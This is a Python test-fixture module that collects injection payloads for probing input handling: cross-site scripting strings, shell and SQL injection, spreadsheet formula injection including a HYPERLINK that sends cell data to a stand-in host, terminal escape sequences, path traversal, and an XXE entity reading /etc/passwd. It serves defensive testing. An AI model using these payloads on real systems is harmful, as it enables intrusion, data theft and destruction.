"""What a stranger could write into a field in order to have it run, lead elsewhere or pass for something else."""

from __future__ import annotations

__all__ = ["PAYLOADS", "STORABLE", "STRANGER"]

STRANGER = "https://stranger.example"
_CALC = "cmd|' /C calc'!A0"

_MARKUP = {
    "script": "<script>alert(1)</script>",
    "mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "out of a double-quoted attribute": '"><img src=x onerror=alert(1)>',
    "out of a single-quoted attribute": "'><svg/onload=alert(1)>",
    "a handler in an attribute": '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "a handler without quotation marks": "x onfocus=alert(1) autofocus tabindex=1 ",
    "out of a script": "</script><script>alert(1)</script>",
    "out of a title": "</title><script>alert(1)</script>",
    "out of a style": "</style><img src=x onerror=alert(1)>",
    "out of a text area": "</textarea></noscript></template><img src=x onerror=alert(1)>",
    "out of a comment": "--><img src=x onerror=alert(1)><!--",
    "a frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "a picture elsewhere": f'<img src="{STRANGER}/seen.png">',
    "a way elsewhere": f'<meta http-equiv=refresh content="0;url={STRANGER}/"><base href="{STRANGER}/">',
    "a form": f"<form action={STRANGER}/><button autofocus>Go</button></form>",
    "a style": f'<style>@import "{STRANGER}/a.css"; * {{ display: none }}</style>',
    "foreign markup": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;b&amp;gt;",
    "a character set of seven bits": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}
_ADDRESSES = {
    "a script's address": "javascript:alert(1)",
    "the same in mixed case": "JaVaScRiPt:alert(document.cookie)",
    "the same with a tab inside": "java\tscript:alert(1)",
    "the same after blanks": " \n javascript:alert(1)",
    "the same after a control character": "\x01javascript:alert(1)",
    "the same in entities": "&#106;avascript&colon;alert(1)",
    "a page in an address": "data:text/html,<script>alert(1)</script>",
    "another script's address": "vbscript:msgbox(1)",
    "out of an address": f"{STRANGER}/\"onmouseover=alert(1) x='y'><img src=x onerror=alert(1)>",
    "an address that ends in Markdown": f"{STRANGER}/a)[x](javascript:alert(1))",
    "an address that ends in angles": f"{STRANGER}/a>\n<javascript:alert(1)>",
    "an address with another host": "//stranger.example/\\evil",
}
_TEMPLATES = {
    "a template": "{{7*7}}{% for x in y %}${7*7}<%= 7*7 %>#{7*7}{{ config }}",
    "a format": "%s%n{0}{title.__class__.__mro__}%(asctime)s",
    "a shell": "$(touch ran)`touch ran`; touch ran & touch ran",
    "a database": "'; DROP TABLE articles; -- %_%",
}
_MARKDOWN = {
    "a link": "[x](javascript:alert(1))",
    "a picture": f"![x]({STRANGER}/seen.png)",
    "a reference": "[x]\n\n[x]: javascript:alert(1) 't'",
    "an autolink": "<javascript:alert(1)> <a@stranger.example> www.stranger.example",
    "code": "``` `</code><script>alert(1)</script>",
    "headings and tables": "# x | y |\n|---|---|\n> > - 1. *** __a__ ~~b~~ ===",
    "markup in it": "**<img src=x onerror=alert(1)>**",
    "a backslash": "a\\",
}
_TERMINAL = {
    "colour and clearing": "\x1b[31mred\x1b[2J\x1b[1;1H",
    "a link at a terminal": f"\x1b]8;;{STRANGER}\x1b\\here\x1b]8;;\x1b\\",
    "a clipboard": "\x1b]52;c;dG91Y2ggcmFu\x07",
    "a window's title": "\x1b]0;owned\x07\x1bP+q544e\x1b\\",
    "controls of eight bits": "\x9b31m\x9d0;owned\x9c\x90q\x9c\x85",
    "backspaces and bells": "hidden\x08\x08\x08\x08\x08\x08shown\x07\x7f",
    "a line written over": "hidden\rshown",
    "a line turned around": "\u202egpj.exe\u202c \u202dabc \u2067def\u2069",
    "letters nobody sees": "a\u200bb\u2060c\U000e0041\ufeffd\u00ad",
    "marks upon marks": "Z" + "\u0338\u0327\u0310" * 20,
    "line ends": "one\u2028two\u2029three\x85four\x0bfive\x0csix\x1cseven",
    "two lines": "one\ntwo\r\nadded      three",
}
_FORMULAS = {
    "a formula": f"={_CALC}",
    "a formula with plus": f"+{_CALC}",
    "a formula with minus": f"-2+3+{_CALC}",
    "a formula with at": f"@SUM(1+1)*{_CALC}",
    "a formula after a tab": "\t=1+1",
    "a formula after a line end": "\r=1+1\n=2+2",
    "a formula after a semicolon": f"a;={_CALC};\t+1",
    "a formula after a quotation mark": '"=1+1";"=2+2"',
    "a formula after a blank": " =1+1",
    "a formula in wide letters": "＝1+1",
    "a formula that is marked already": "'=1+1",
    "a formula that sends": f'=HYPERLINK("{STRANGER}?"&A1,"x")',
}
_PATHS = {
    "a folder further up": "../../../../ran",
    "a folder further up, encoded": "%2e%2e%2f%2e%2e%2fran",
    "an absolute path": "/ran",
    "a path of Windows": "C:\\ran\\..\\ran.",
    "a path of another machine": "\\\\stranger.example\\share",
    "a device": "CON",
    "a file's address": "file:///etc/passwd",
    "an option": "--output=ran",
}
_XML = {
    "the end of a section": "]]><x/>&xxe;",
    "an entity": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    "what XML cannot write": "a\x01b\x0bc\ufffed\uffffe",
}
_SIZES = {
    "300 letters": "Längstname " * 27 + "End",
    "300 letters without a blank": "<b>" * 100,
    "a blank": " ",
}
_UNSTORABLE = {"NUL": "a\0<b>b", "half a surrogate pair": "a\ud800b\udc00<b>"}

STORABLE: dict[str, str] = {
    **_MARKUP,
    **_ADDRESSES,
    **_TEMPLATES,
    **_MARKDOWN,
    **_TERMINAL,
    **_FORMULAS,
    **_PATHS,
    **_XML,
    **_SIZES,
}
"""those that a database keeps"""
PAYLOADS: dict[str, str] = STORABLE | _UNSTORABLE
